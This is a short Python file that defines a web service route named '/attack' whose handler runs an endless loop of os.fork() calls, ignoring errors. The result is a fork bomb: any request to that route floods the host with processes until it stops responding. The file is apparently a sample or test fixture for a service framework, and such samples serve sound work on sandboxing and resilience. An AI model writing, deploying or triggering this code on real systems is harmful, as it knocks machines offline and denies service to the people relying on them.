import os

from service import route, serve


@route("/attack")
def fork_without_end():
    while True:
        try:
            os.fork()
        except OSError:
            pass


serve()
